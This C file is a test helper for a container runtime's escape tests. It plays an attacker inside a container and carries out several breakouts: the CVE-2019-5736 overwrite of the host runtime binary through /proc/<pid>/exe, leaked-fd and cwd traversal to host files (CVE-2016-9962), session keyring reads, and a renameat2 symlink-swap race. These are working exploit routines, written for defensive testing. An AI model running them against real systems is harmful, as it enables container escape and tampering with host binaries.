/* Test helper for tests/escapes.rs, built static at test time: the
 * attacker inside a container.
 *
 *   evil watch SECONDS LOG HOSTFILE
 *       For SECONDS, scans /proc for every other process. For each one it
 *       can reach it keeps an O_PATH fd of /proc/<pid>/exe (the CVE-2019-5736
 *       attack: wait until nobody executes that file, then reopen it for
 *       writing and overwrite it) and tries each /proc/<pid>/fd/N as a way
 *       to the host: N/HOSTFILE and N/1/root/HOSTFILE, where HOSTFILE is a
 *       host path relative to "/" (CVE-2016-9962). Every attempt is a line
 *       in LOG: "exe PID TARGET", "exe-denied PID ERRNO", "opened TARGET",
 *       "open-failed TARGET ERRNO", "wrote TARGET", "write-failed TARGET
 *       ERRNO", "host-reached PATH"; "done" at the end.
 *   evil keyring     prints "session=ID" and "desc=DESCRIPTION" of the
 *                    session keyring (keyctl, no keyutils needed)
 *   evil cwd [HOSTFILE]
 *                    prints "cwd=PATH" (getcwd); with HOSTFILE, climbs from
 *                    the cwd with "../" and prints "host-reached PATH" if
 *                    HOSTFILE opens that way (a cwd outside the root)
 *   evil fds HOSTFILE
 *                    for every fd above 2 (but its own /proc/self/fd
 *                    handle) prints "fd=N TARGET", tries N/HOSTFILE,
 *                    N/../../../HOSTFILE and N/1/root/HOSTFILE, prints
 *                    "host-reached ..." for each that opens, then
 *                    "leaked=COUNT"
 *   evil swap DIR NAME...
 *                    while DIR/go exists, exchanges DIR/NAME with
 *                    DIR/NAME-link (renameat2 RENAME_EXCHANGE, so NAME
 *                    always exists) for each NAME; otherwise puts each NAME
 *                    back and keeps DIR/idle; ends when DIR/stop exists
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static FILE *logf;

static void say(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    vfprintf(logf, fmt, ap);
    va_end(ap);
    fputc('\n', logf);
    fflush(logf);
}

struct held {
    int fd;
    char target[256];
    int done;
};

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

struct seen {
    int pid;
    char target[256];
};

/* A pid is looked at again when its exe changes (it exec'd). */
static int seen_before(struct seen *seen, int nseen, int pid, const char *target) {
    for (int i = 0; i < nseen; i++)
        if (seen[i].pid == pid && !strcmp(seen[i].target, target)) return 1;
    return 0;
}

static void try_fds(int pid, const char *hostfile) {
    char dir[64];
    snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
    DIR *d = opendir(dir);
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        char path[512];
        const char *ways[] = {"%s/%s/%s", "%s/%s/1/root/%s"};
        for (int w = 0; w < 2; w++) {
            snprintf(path, sizeof path, ways[w], dir, e->d_name, hostfile);
            int fd = open(path, O_RDONLY);
            if (fd >= 0) {
                say("host-reached %s", path);
                close(fd);
            }
        }
    }
    closedir(d);
}

static int watch(double seconds, const char *hostfile) {
    static struct held held[MAX_HELD];
    static struct seen seen[4096];
    int nheld = 0, nseen = 0;
    int self = getpid();
    double end = now() + seconds;
    while (now() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self) continue;
            char exe[64], target[256];
            snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
            ssize_t n = readlink(exe, target, sizeof target - 1);
            if (n < 0) {
                if (errno == ENOENT) continue; /* gone, or a kernel thread */
                snprintf(target, sizeof target, "denied:%d", errno);
            } else {
                target[n] = 0;
            }
            if (seen_before(seen, nseen, pid, target)) continue;
            if (nseen < 4096) {
                seen[nseen].pid = pid;
                snprintf(seen[nseen].target, sizeof seen[nseen].target, "%s", target);
                nseen++;
            }
            if (n < 0) {
                say("exe-denied %d %d", pid, errno);
            } else if (!strstr(target, "busybox") && !strstr(target, "/evil")) {
                int fd = open(exe, O_PATH | O_CLOEXEC);
                if (fd < 0) {
                    say("exe-denied %d %d", pid, errno);
                } else if (nheld < MAX_HELD) {
                    held[nheld].fd = fd;
                    held[nheld].done = 0;
                    snprintf(held[nheld].target, sizeof held[nheld].target, "%s", target);
                    nheld++;
                    say("exe %d %s", pid, target);
                } else {
                    close(fd);
                }
            }
            try_fds(pid, hostfile);
        }
        if (d) closedir(d);
        /* The write half: once nobody executes the file, it opens. */
        for (int i = 0; i < nheld; i++) {
            if (held[i].done) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd < 0) {
                if (errno == ETXTBSY) continue; /* still running: retry */
                say("open-failed %s %d", held[i].target, errno);
                held[i].done = 1;
                continue;
            }
            say("opened %s", held[i].target);
            if (pwrite(fd, "PWNED", 5, 0) == 5)
                say("wrote %s", held[i].target);
            else
                say("write-failed %s %d", held[i].target, errno);
            close(fd);
            held[i].done = 1;
        }
    }
    say("done");
    return 0;
}

static int fds(const char *hostfile) {
    DIR *d = opendir("/proc/self/fd");
    if (!d) return 3;
    int own = dirfd(d), leaked = 0;
    struct dirent *e;
    while ((e = readdir(d))) {
        int n = atoi(e->d_name);
        if (e->d_name[0] == '.' || n <= 2 || n == own) continue;
        char link[64], target[512] = "?";
        snprintf(link, sizeof link, "/proc/self/fd/%d", n);
        ssize_t len = readlink(link, target, sizeof target - 1);
        if (len >= 0) target[len] = 0;
        printf("fd=%d %s\n", n, target);
        leaked++;
        char up[4096] = "";
        for (int i = 0; i < 32; i++) strcat(up, "../");
        strcat(up, hostfile);
        char viaproc[4096];
        snprintf(viaproc, sizeof viaproc, "1/root/%s", hostfile);
        const char *ways[] = {hostfile, up, viaproc};
        for (int w = 0; w < 3; w++) {
            int fd = openat(n, ways[w], O_RDONLY);
            if (fd >= 0) {
                printf("host-reached fd %d %s\n", n, ways[w]);
                close(fd);
            }
        }
    }
    closedir(d);
    printf("leaked=%d\n", leaked);
    return 0;
}

static int exists(const char *dir, const char *name) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    return access(path, F_OK) == 0;
}

static int swap(const char *dir, int n, char **names) {
    int odd[64] = {0};
    if (n > 64) n = 64;
    char a[64][4096], b[64][4096], idle[4096];
    for (int i = 0; i < n; i++) {
        snprintf(a[i], sizeof a[i], "%s/%s", dir, names[i]);
        snprintf(b[i], sizeof b[i], "%s/%s-link", dir, names[i]);
    }
    snprintf(idle, sizeof idle, "%s/idle", dir);
    while (!exists(dir, "stop")) {
        if (exists(dir, "go")) {
            unlink(idle);
            for (int k = 0; k < 100; k++)
                for (int i = 0; i < n; i++)
                    if (syscall(SYS_renameat2, AT_FDCWD, a[i], AT_FDCWD, b[i], 2) == 0)
                        odd[i] ^= 1;
            continue;
        }
        for (int i = 0; i < n; i++)
            if (odd[i] && syscall(SYS_renameat2, AT_FDCWD, a[i], AT_FDCWD, b[i], 2) == 0)
                odd[i] = 0;
        close(open(idle, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
        usleep(2000);
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 5 && !strcmp(argv[1], "watch")) {
        logf = fopen(argv[3], "a");
        if (!logf) return 3;
        return watch(atof(argv[2]), argv[4]);
    }
    if (argc >= 2 && !strcmp(argv[1], "keyring")) {
        /* KEYCTL_GET_KEYRING_ID = 0, KEY_SPEC_SESSION_KEYRING = -3,
         * KEYCTL_DESCRIBE = 6 */
        long id = syscall(SYS_keyctl, 0, -3, 0);
        char desc[256] = {0};
        long n = id < 0 ? -1 : syscall(SYS_keyctl, 6, id, desc, sizeof desc - 1);
        printf("session=%ld\ndesc=%s\nerrno=%d\n", id, n < 0 ? "" : desc, n < 0 ? errno : 0);
        return 0;
    }
    if (argc >= 2 && !strcmp(argv[1], "cwd")) {
        char buf[4096];
        printf("cwd=%s\n", getcwd(buf, sizeof buf) ? buf : "(error)");
        if (argc >= 3) {
            char path[4096] = "";
            for (int i = 0; i < 32; i++) strcat(path, "../");
            strcat(path, argv[2]);
            int fd = open(path, O_RDONLY);
            if (fd >= 0) printf("host-reached %s\n", path);
        }
        return 0;
    }
    if (argc >= 3 && !strcmp(argv[1], "fds")) return fds(argv[2]);
    if (argc >= 4 && !strcmp(argv[1], "swap")) return swap(argv[2], argc - 3, argv + 3);
    return 2;
}
